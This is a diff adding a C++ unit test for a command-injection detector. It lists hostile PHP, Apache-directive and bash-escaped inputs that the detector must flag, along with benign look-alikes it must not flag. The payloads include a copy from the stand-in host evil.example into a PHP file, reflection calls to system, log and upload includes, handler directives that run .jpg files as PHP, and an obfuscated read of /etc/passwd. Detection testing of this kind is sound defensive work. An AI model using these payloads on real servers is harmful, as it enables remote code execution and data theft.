@@ -633,6 +633,54 @@ TEST(CmdiTest, PhpCallbacksComputedCallsAndIncludes) {
   (void)Detects(CmdiDetector(), Case{many}, &m);
 }
 
+// PHP that reads or changes files, the process or its settings as a
+// statement of its own, includes of server paths, variables without
+// letters, uploaded web-server directives, and bash's ANSI-C quoting.
+TEST(CmdiTest, PhpStatementsDirectivesAndEscapedCommands) {
+  const std::pair<const char*, const char*> attacks[] = {
+      {"scandir('/')", "cmdi.php_statement_call"},
+      {"@unlink('index.php');", "cmdi.php_statement_call"},
+      {"var_dump(get_defined_vars())", "cmdi.php_statement_call"},
+      {"set_time_limit(0);ignore_user_abort(1);", "cmdi.php_statement_call"},
+      {"php_uname();", "cmdi.php_statement_call"},
+      {"copy('http://evil.example/s.txt','s.php')", "cmdi.php_statement_call"},
+      {"(new ReflectionFunction('system'))->invoke('id')", "cmdi.php_callback"},
+      {"include('/var/log/apache2/access.log')", "cmdi.php_file_include"},
+      {"require_once(\"../../uploads/a.jpg\");", "cmdi.php_file_include"},
+      {"include '../up/x.php';", "cmdi.php_file_include"},
+      {"${'_GET'}[0](${'_GET'}[1])", "cmdi.php_superglobal"},
+      {"$_=\"\";$_[+\"\"]='';$_=\"$_\".\"\";", "cmdi.php_code"},
+      {"AddType application/x-httpd-php .jpg", "cmdi.php_handler_directive"},
+      {"SetHandler application/x-httpd-php", "cmdi.php_handler_directive"},
+      {"php_value auto_prepend_file /tmp/x", "cmdi.php_ini_directive"},
+      {"php_flag engine on", "cmdi.php_ini_directive"},
+      {"$'\\x69\\x64'", "cmdi.substitution"},
+      {"; $'\\143\\141\\164' /etc/passwd", "cmdi.substitution"},
+  };
+  for (const auto& [v, rule] : attacks) {
+    Match m;
+    ASSERT_TRUE(Detects(CmdiDetector(), Case{v}, &m)) << v;
+    EXPECT_EQ(m.rule_id, rule) << v;
+  }
+  for (const std::string b :
+       {"report copy(2).pdf", "copy(2)", "See scandir('/') in the manual for details",
+        "glob patterns like glob('*.txt') match files", "getenv is how you read PATH",
+        "include '/tmp' in the list", "Please include '/var/log' and more",
+        "application/x-httpd-php is the MIME type", "php_value is an Apache directive",
+        "$_ is Perl's default variable", "it costs $'5", "say $'hello world'", "touch(1)"}) {
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
+  }
+  // Linear on values made of their triggers.
+  for (const std::string unit :
+       {"include '/", "scandir(", "$'\\x6", "php_value ", "application/x-httpd-php "}) {
+    std::string many;
+    while (many.size() < 200000) many += unit;
+    Match m;
+    (void)Detects(CmdiDetector(), Case{many}, &m);
+  }
+}
+
 TEST(CmdiTest, AdministrationAndDebuggingTools) {
   const std::vector<std::string> attacks = {
       ";gdb -batch -ex \"!id\"",
